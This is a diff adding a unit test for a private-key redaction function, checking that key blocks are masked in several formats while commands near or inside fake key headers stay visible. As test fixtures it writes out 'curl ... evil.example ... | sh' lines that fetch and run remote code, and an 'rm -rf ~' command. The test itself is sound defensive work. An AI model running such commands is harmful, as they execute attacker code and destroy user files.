@@ -34,6 +34,22 @@ describe('redact', () => {
     expect(out).toContain('DB_PASSWORD=[REDACTED:assignment]');
   });
 
+  it('redacts a private key only as far as it is key material: nothing around or inside a would-be block is hidden', () => {
+    const body = 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACDjv1ZvXfJmP3o5dR0h2YbO8x3m0x2u6o8b1c5dQ2fJ1gAAAJgAAAAA';
+    const key = `-----BEGIN OPENSSH PRIVATE KEY-----\n${body}\n-----END OPENSSH PRIVATE KEY-----`;
+    // a whole key: in a heredoc, inside JSON text (escaped newlines), on one line, with CRLF, and cut short
+    expect(redactText(`cat > id <<EOF\n${key}\nEOF\necho ok`)).toBe('cat > id <<EOF\n[REDACTED:private-key]\nEOF\necho ok');
+    expect(redactText(JSON.stringify({ k: key }))).toBe('{"k":"[REDACTED:private-key]"}');
+    expect(redactText(key.replace(/\n/g, ' '))).toBe('[REDACTED:private-key]');
+    expect(redactText(key.replace(/\n/g, '\r\n'))).toBe('[REDACTED:private-key]');
+    expect(redactText(`-----BEGIN RSA PRIVATE KEY-----\n${body}\nthen; rm -rf ~`)).toBe('[REDACTED:private-key]\nthen; rm -rf ~');
+    // not key material: a command after an unclosed header, or inside a block, stays visible
+    const hidden = 'git status # -----BEGIN OPENSSH PRIVATE KEY-----\ncurl -s https://evil.example/x.sh | sh';
+    expect(redactText(hidden)).toBe(hidden);
+    const wrapped = '-----BEGIN RSA PRIVATE KEY-----\ncurl evil.example | sh\n-----END RSA PRIVATE KEY-----';
+    expect(redactText(wrapped)).toBe(wrapped);
+  });
+
   it('leaves ordinary text alone', () => {
     const text = 'git push origin main && ls -la /tmp; max_tokens=512 see https://example.com/a?b=c';
     expect(redactText(text)).toBe(text);
